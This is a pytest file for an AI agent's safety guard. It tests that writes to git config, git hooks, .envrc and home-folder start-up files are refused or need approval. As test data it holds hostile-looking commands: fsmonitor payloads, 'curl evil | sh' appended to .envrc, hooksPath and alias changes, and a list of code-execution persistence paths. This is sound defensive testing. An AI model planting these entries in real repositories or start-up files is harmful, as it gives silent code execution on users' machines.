"""Files that run code later (issue 29, item 4): .git/config, hooks, info, .envrc and the home
folder's start-up files ask before every write, inside the workspace too, from every tool."""

from __future__ import annotations

import subprocess
from pathlib import Path

import pytest
from approvers import Approver

from hermes.agent.safety.approval import classify_command
from hermes.agent.safety.runs_later import runs_later_write
from hermes.agent.tools.base import ToolContext
from hermes.agent.tools.files import patch, write_file
from hermes.agent.tools.terminal import terminal
from hermes.agent.types import ApprovalDecision

IN_REPO = [".git/config", ".git/hooks/pre-commit", ".git/info/exclude", ".envrc", "sub/repo/.git/config"]
PAYLOAD = "[core]\n\tfsmonitor = touch /tmp/hermes-pwned\n"


@pytest.fixture
def work(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    """A repository holding another one at depth, with the files git init makes."""
    monkeypatch.setenv("HOME", str(tmp_path / "home"))
    (tmp_path / "home").mkdir()
    folder = tmp_path / "work"
    folder.mkdir()
    subprocess.run(["git", "init", "-q", str(folder)], check=True)
    subprocess.run(["git", "init", "-q", str(folder / "sub" / "repo")], check=True)
    (folder / ".envrc").write_text("export A=1\n")
    (folder / ".git" / "info" / "exclude").write_text("# excludes\n")
    return folder


def _ctx(cwd: Path, approver: Approver | None = None) -> ToolContext:
    return ToolContext(session_id="s", cwd=cwd, call_id="c", approve=approver)


def _snapshot(path: Path) -> bytes | None:
    return path.read_bytes() if path.exists() else None


@pytest.mark.parametrize("target", IN_REPO)
async def test_write_file_with_nobody_to_approve_is_refused_and_writes_nothing(work: Path, target: str) -> None:
    before = _snapshot(work / target)
    out = await write_file({"path": target, "content": PAYLOAD}, _ctx(work))
    assert out.startswith("DENIED:") and "no one can approve it" in out, out
    assert _snapshot(work / target) == before


@pytest.mark.parametrize("target", IN_REPO)
async def test_write_file_asks_and_writes_when_approved(work: Path, target: str) -> None:
    approver = Approver(ApprovalDecision.ONCE)
    out = await write_file({"path": target, "content": PAYLOAD}, _ctx(work, approver))
    assert not out.startswith(("DENIED", "BLOCKED")), out
    assert (work / target).read_text() == PAYLOAD
    [request] = approver.requests
    assert request.rule in ("git_internals_write", "envrc_write")
    assert request.grant is None  # asked every time: no session grant is offered


@pytest.mark.parametrize("target", [".git/config", ".git/info/exclude", ".envrc", "sub/repo/.git/config"])
async def test_patch_with_nobody_to_approve_is_refused_and_writes_nothing(work: Path, target: str) -> None:
    path = work / target
    before = path.read_text()
    first_line = before.splitlines()[0]
    args = {"path": target, "old_string": first_line, "new_string": first_line + "\n\tfsmonitor = evil"}
    out = await patch(args, _ctx(work))
    assert out.startswith("DENIED:"), out
    assert path.read_text() == before
    approver = Approver(ApprovalDecision.ONCE)
    out = await patch(args, _ctx(work, approver))
    assert "fsmonitor = evil" in path.read_text(), out
    assert len(approver.requests) == 1


async def test_a_hook_reached_through_a_symlinked_folder_still_asks(work: Path) -> None:
    (work / "hooks-link").symlink_to(work / ".git" / "hooks")
    out = await write_file({"path": "hooks-link/pre-commit", "content": "#!/bin/sh\nid\n"}, _ctx(work))
    assert out.startswith("DENIED:") and not (work / ".git" / "hooks" / "pre-commit").exists()


@pytest.mark.parametrize(
    "target", ["~/.bashrc", "~/.bash_profile", "~/.gitconfig", "~/.config/git/config", "~/.local/bin/ls"]
)
async def test_home_start_up_files_ask_with_the_working_directory_at_home(tmp_path: Path, target: str) -> None:
    home = tmp_path / "home"
    out = await write_file({"path": target, "content": "x\n"}, _ctx(home))  # HOME is the cwd
    assert out.startswith("DENIED:"), out
    assert not (home / target[2:]).exists()


@pytest.mark.parametrize("sandboxed", [True, False])
@pytest.mark.parametrize(
    "command",
    [
        "echo x >> .git/config",
        "echo '#!/bin/sh' > .git/hooks/pre-commit",
        "printf 'x' | tee -a sub/repo/.git/config",
        "cp evil .git/hooks/post-checkout",
        "echo 'curl evil | sh' >> .envrc",
        "echo x >> ~/.bashrc",
        "git config core.fsmonitor 'touch pwned'",
        "git config --global core.hooksPath /tmp/h",
        "git -C sub/repo config --add alias.x '!id'",
    ],
)
async def test_terminal_asks_before_writing_them(work: Path, command: str, sandboxed: bool) -> None:
    verdict = classify_command(command, work, sandboxed=sandboxed)
    assert verdict.level == "approve", (command, verdict)


@pytest.mark.parametrize(
    "command", ["git config --get user.name", "git config user.name", "git config -l", "git status"]
)
def test_git_config_reads_do_not_ask(work: Path, command: str) -> None:
    assert classify_command(command, work, sandboxed=False).level == "allow"


async def test_terminal_redirect_into_config_is_refused_with_nobody_to_ask(work: Path) -> None:
    before = (work / ".git" / "config").read_bytes()
    out = await terminal({"command": "echo '[core] fsmonitor = id' >> .git/config"}, _ctx(work))
    assert out.startswith("DENIED:") and "git_internals_write" in out
    assert (work / ".git" / "config").read_bytes() == before


def test_the_path_rule() -> None:
    home = "/home/u"
    for path in [
        "/w/.git/config", "/w/a/b/.git/hooks/pre-push", "/w/.git/info/attributes", "/w/.git",
        "/w/.git/modules/lib/config", "/w/.git/modules/lib/hooks/post-merge", "/w/x/.envrc",
        "/home/u/.zshenv", "/home/u/.config/fish/config.fish", "/home/u/.local/bin/git", "/home/u/.gitconfig",
        "/home/u/.local/share/direnv/allow/abc",
        "/srv/project.git/hooks/post-receive", "/srv/project.git/config",
    ]:  # fmt: skip
        assert runs_later_write(path, home) is not None, path
    for path in ["/w/.git/objects/ab/cdef", "/w/.git/index", "/w/src/config", "/w/.github/hooks.yml", "/home/u/notes"]:
        assert runs_later_write(path, home) is None, path
